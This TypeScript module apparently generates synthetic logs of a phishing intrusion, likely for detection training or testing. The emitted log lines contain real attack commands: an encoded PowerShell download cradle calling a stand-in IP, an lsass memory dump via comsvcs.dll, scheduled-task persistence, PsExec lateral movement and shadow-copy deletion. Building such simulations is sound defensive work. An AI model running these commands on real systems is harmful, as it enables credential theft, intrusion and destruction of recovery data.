import { mailDomain, windowsDomain } from '../inventory.ts'
import { forwarded, type Happening, type Line } from '../line.ts'
import { kasperskyLine } from '../lines/antivirus.ts'
import { fortigate } from '../lines/network.ts'
import { logOn, processStart, sysmonEvent, type WindowsEvent, windowsLine } from '../lines/windows.ts'

const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const word = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
const encoded =
  'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA3ADcALwBhACcAKQA='
const script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a')"
const home = '203.0.113.77'

/** A letter with a document that starts PowerShell, passwords taken from memory, and the way on to the file server. */
export const phishing: Happening = (world, at) => {
  const { province, random } = world
  const desk = province.host('ketoan-pc-01')
  const server = province.host('fs-01')
  const controller = province.host('dc-01')
  const { user } = desk
  const lines: Line[] = []
  const on = (host: typeof desk, after: number, event: WindowsEvent) =>
    lines.push(windowsLine(world, at + after, host, event))
  const start = (host: typeof desk, after: number, image: string, line: string, parent: string, who = user) =>
    on(host, after, processStart(world, at + after, { image, line, parent, user: who }))

  for (const [index, to] of [user, ...province.people.slice(3, 20)].entries()) {
    const queue = `5${random.hex(9).toUpperCase()}`
    const say = (after: number, tag: string, text: string) =>
      lines.push(forwarded(at + index * 700 + after, 22, 'mail-01', tag, text))
    say(0, 'postfix/smtpd[4410]', `${queue}: client=unknown[203.0.113.70]`)
    say(40, 'postfix/qmgr[1102]', `${queue}: from=<ke-toan@bo-tai-chlnh.example>, size=184332, nrcpt=1 (queue active)`)
    say(
      300,
      'postfix/lmtp[2310]',
      `${queue}: to=<${to}@${mailDomain}>, relay=mail-01[private/dovecot-lmtp], delay=0.3, delays=0.1/0/0.1/0.1, dsn=2.0.0, status=sent (250 2.0.0 Saved)`,
    )
  }
  start(
    desk,
    900_000,
    word,
    `"${word}" /n "C:\\Users\\${user}\\Downloads\\Quyết toán quý IV (khẩn).docm"`,
    'C:\\Windows\\explorer.exe',
  )
  start(desk, 909_000, powershell, `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${encoded}`, word)
  on(desk, 910_000, {
    channel: 'Microsoft-Windows-PowerShell/Operational',
    provider: 'Microsoft-Windows-PowerShell',
    id: 4104,
    level: 'warning',
    message: `Creating Scriptblock text (1 of 1): ${script}`,
    data: {
      MessageNumber: '1',
      MessageTotal: '1',
      ScriptBlockText: script,
      ScriptBlockId: 'f0d2c2ab-2a4e-4f0e-9f06-2f4be2a1f1d5',
      Path: '',
    },
  })
  on(
    desk,
    911_000,
    sysmonEvent(world, at + 911_000, 3, 'Network connection detected', {
      ProcessId: '7720',
      Image: powershell,
      User: `${windowsDomain}\\${user}`,
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIp: desk.ip,
      SourcePort: '50211',
      DestinationIp: home,
      DestinationPort: '80',
      DestinationPortName: 'http',
    }),
  )
  lines.push(
    fortigate(
      at + 911_500,
      'fw-tinh-01',
      `logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" srcip=${desk.ip} srcname="${desk.name}" srcport=50211 srcintf="wan-noi-bo" srcintfrole="lan" dstip=${home} dstport=80 dstintf="wan1" dstintfrole="wan" sessionid=7781223 proto=6 action="close" policyid=4 policytype="policy" service="HTTP" duration=12 sentbyte=912 rcvdbyte=402113 sentpkt=12 rcvdpkt=301`,
    ),
  )
  start(desk, 960_000, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all', powershell)
  start(desk, 971_000, 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain', powershell)
  start(
    desk,
    1_020_000,
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 688 C:\\Windows\\Temp\\l.dmp full',
    powershell,
  )
  on(
    desk,
    1_021_000,
    sysmonEvent(world, at + 1_021_000, 10, 'Process accessed', {
      SourceProcessId: '8112',
      SourceImage: 'C:\\Windows\\System32\\rundll32.exe',
      TargetProcessId: '688',
      TargetImage: 'C:\\Windows\\system32\\lsass.exe',
      GrantedAccess: '0x1fffff',
      CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbgcore.DLL+7f29',
      SourceUser: `${windowsDomain}\\${user}`,
      TargetUser: 'NT AUTHORITY\\SYSTEM',
    }),
  )
  start(
    desk,
    1_050_000,
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks /create /tn "Cap nhat UniKey" /tr "powershell -w hidden -enc SQBFAFgA" /sc onlogon /ru SYSTEM /f',
    powershell,
  )
  for (let i = 0; i < 12; i++) on(controller, 1_100_000 + i * 2000, logOn('quantri.hien', desk.ip, 3, false))
  on(controller, 1_130_000, logOn('quantri.hien', desk.ip, 3, true))
  on(server, 1_200_000, logOn('quantri.hien', desk.ip, 3, true))
  on(server, 1_201_000, {
    channel: 'System',
    provider: 'Service Control Manager',
    id: 7045,
    message: 'A service was installed in the system.',
    data: {
      ServiceName: 'PSEXESVC',
      ImagePath: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    },
  })
  start(
    server,
    1_203_000,
    'C:\\Windows\\System32\\cmd.exe',
    'cmd.exe /c whoami && ipconfig /all',
    'C:\\Windows\\PSEXESVC.exe',
    'quantri.hien',
  )
  start(
    server,
    1_260_000,
    'C:\\Windows\\System32\\vssadmin.exe',
    'vssadmin.exe delete shadows /all /quiet',
    'C:\\Windows\\System32\\cmd.exe',
    'quantri.hien',
  )
  on(server, 1_300_000, {
    channel: 'Security',
    provider: 'Microsoft-Windows-Eventlog',
    id: 1102,
    message: 'The audit log was cleared.',
    data: {
      SubjectUserSid: 'S-1-5-21-1004336348-1177238915-682003330-1127',
      SubjectUserName: 'quantri.hien',
      SubjectDomainName: windowsDomain,
      SubjectLogonId: '0x9d1f2',
    },
  })
  lines.push(
    kasperskyLine(at + 1_310_000, desk, {
      code: 'GNRL_EV_VIRUS_FOUND',
      name: 'Malicious object detected',
      threat: 'HEUR:Trojan.MSOffice.SAgent.gen',
      object: `C:\\Users\\${user}\\Downloads\\Quyết toán quý IV (khẩn).docm`,
    }),
  )
  return lines.sort((a, b) => a.at - b.at)
}
